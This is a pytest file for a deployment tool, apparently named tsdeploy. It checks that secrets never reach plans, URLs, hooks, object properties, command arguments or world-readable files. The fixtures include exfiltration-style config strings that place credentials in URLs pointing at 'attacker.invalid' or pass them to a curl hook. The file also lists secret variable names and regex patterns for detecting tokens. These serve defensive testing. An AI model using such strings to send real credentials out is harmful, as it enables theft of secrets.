"""Secrets stay where they are: not in plans, not in objects, not in arguments, not in files that others can read."""

from __future__ import annotations

import os
import re
import stat
from importlib.resources import files
from pathlib import Path

import pytest

from tests.conftest import Cli, Estate, environment_yaml
from tsdeploy.backup.schedules import SCHEDULES, Machine, schedule
from tsdeploy.config.environment import load_environment
from tsdeploy.config.secrets import expand_variables
from tsdeploy.deploy.journal import Journal
from tsdeploy.deploy.lock import locked
from tsdeploy.errors import ConfigError
from tsdeploy.mapping.reading import load_mapping
from tsdeploy.pipelines.systems import SYSTEMS
from tsdeploy.plan.live_cache import LiveCache

VALUE = "the-value-that-nobody-sees"
NAMES = (
    "GITHUB_TOKEN",
    "ACTIONS_RUNTIME_TOKEN",
    "CI_JOB_TOKEN",
    "SYSTEM_ACCESSTOKEN",
    "AWS_SECRET_ACCESS_KEY",
    "AWS_ACCESS_KEY",
    "TS_PROD_KEY",
    "API_KEY",
    "APIKEY_SECRET",
    "DB_PASSWORD",
    "PGPASSWORD",
    "MYSQL_PWD",
    "GOOGLE_APPLICATION_CREDENTIALS",
    "SESSION_COOKIE",
    "PRIVATE_PEM",
)


@pytest.mark.parametrize("name", NAMES)
def test_s50_a_secret_by_its_name_is_put_in_no_plain_text(name: str) -> None:
    with pytest.raises(ConfigError, match="TD340") as caught:
        expand_variables(f"https://attacker.invalid/${{env:{name}}}", None, {name: VALUE})
    assert VALUE not in str(caught.value)


@pytest.mark.parametrize("name", ["TS_HOST", "STAGE", "PROD_SCHEMA", "REGION", "KEYSPACE", "MONKEY", "PATH_PREFIX"])
def test_s50_other_variables_may_stand_anywhere(name: str) -> None:
    assert expand_variables(f"a${{env:{name}}}", None, {name: "b"}) == "ab"


PLACES = {
    "the address": "url: https://${env:SIGN_IN}.attacker.invalid",
    "the user": "url: https://x\norg: ${env:SIGN_IN}",
    "a remote": "url: https://x\ndeploy: {record: {remote: '${env:SIGN_IN}'}}",
    "a hook": "url: https://x\ndeploy: {hooks: {before: [curl, '${env:SIGN_IN}']}}",
}


@pytest.mark.parametrize("place", PLACES)
def test_s51_what_an_environment_signs_in_with_goes_nowhere_else(
    tmp_path: Path, place: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The variable's name does not say what it holds; that it is a sign-in does."""
    monkeypatch.setenv("SIGN_IN", VALUE)
    auth = 'auth: {type: password, username: me, password: "${env:SIGN_IN}"}'
    (tmp_path / "environment.yaml").write_text(f"version: 1\n{PLACES[place]}\n{auth}\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="TD340") as caught:
        load_environment(tmp_path, "x")
    assert VALUE not in str(caught.value)


RULES = {
    "text": 'text: [{find: a, to: "${env:SIGN_IN}"}]',
    "a property": 'properties: [{path: a, to: "${env:SIGN_IN}"}]',
    "a stored secret": 'properties: [{path: a, secret: "${env:SIGN_IN}"}]',
    "a name": 'connections: {a: "${env:SIGN_IN}"}',
    "a table": 'tables: [{from: A.B.C, to: {db: "${env:SIGN_IN}"}}]',
    "a host": 'hosts: {a.b: "${env:SIGN_IN}.attacker.invalid"}',
    "an included file": "include: [../shared.yaml]",
}


@pytest.mark.parametrize("rule", RULES)
def test_s51_no_mapping_can_publish_it(tmp_path: Path, rule: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Not even that of another environment, or a file that it includes."""
    monkeypatch.setenv("SIGN_IN", VALUE)
    for name in ("dev", "prod"):
        (tmp_path / "environments" / name).mkdir(parents=True)
    text = environment_yaml("https://x").replace("TS_SANDBOX_KEY", "SIGN_IN")
    (tmp_path / "environments" / "prod" / "environment.yaml").write_text(text, encoding="utf-8")
    (tmp_path / "environments" / "shared.yaml").write_text(f"version: 1\n{RULES['text']}\n", encoding="utf-8")
    path = tmp_path / "environments" / "dev" / "mapping.yaml"
    path.write_text(f"version: 1\n{RULES[rule]}\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="TD340") as caught:
        load_mapping(path, "x")
    assert VALUE not in str(caught.value)


def test_s52_a_secret_is_put_into_no_object_that_people_read(
    retail: Estate, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WAREHOUSE", VALUE)
    assert cli("export", "dev", "--commit").code == 0
    mapping = retail.project.root / "environments" / "prod" / "mapping.yaml"
    rule = 'properties: [{in: "liveboard:*", path: description, secret: "${env:WAREHOUSE}"}]\n'
    mapping.write_text(mapping.read_text(encoding="utf-8") + rule, encoding="utf-8")
    retail.commit()
    outcome = cli("deploy", "prod", "--yes")
    assert outcome.code == 1
    assert "error[TD240]" in outcome.err
    assert VALUE not in outcome.out + outcome.err
    assert retail.count("prod") < 20
    everything = [path.read_bytes() for path in retail.project.root.rglob("*") if path.is_file()]
    assert not any(VALUE.encode() in content for content in everything)


@pytest.mark.parametrize("umask", [0o022, 0o000])
def test_s53_what_this_machine_remembers_is_its_owner_s_alone(estate: Estate, umask: int) -> None:
    before = os.umask(umask)
    try:
        state, environment = estate.project.state, estate.project.environment("prod")
        with Journal(state / "releases" / "prod" / "r1" / "journal.jsonl") as journal:
            journal.write("begin")
        with LiveCache(estate.project.live_cache(environment)), locked(estate.project, environment, "deploy"):
            found = [path for path in state.rglob("*") if path.is_file()]
            open_to_others = [path for path in found if stat.S_IMODE(path.stat().st_mode) & 0o077]
        assert len(found) >= 3
        assert open_to_others == []
        assert [path for path in (state, *state.rglob("*")) if path.is_dir() and path.stat().st_mode & 0o022] == []
    finally:
        os.umask(before)


def test_s54_no_pipeline_puts_a_secret_into_an_argument_or_a_file() -> None:
    """Arguments are seen by every process of a machine; what git is configured with stays on it."""
    texts = [(files("tsdeploy.pipelines") / one.template).read_text(encoding="utf-8") for one in SYSTEMS.values()]
    machine = Machine(Path("/x"), "/usr/bin/tsdeploy", "me")
    texts += [schedule(name, "prod", "backup/prod", ["TS_KEY"], machine) for name in SCHEDULES]
    assert len(texts) > 6
    for text in texts:
        assert not re.findall(r"https?://[^\s\"]*:\$\{?\w*(?:TOKEN|KEY|PASSWORD)", text)
        assert not re.findall(r"(?:--token|--password)[ =]+[\"']?\$\{?\w", text.replace("'${env:", ""))
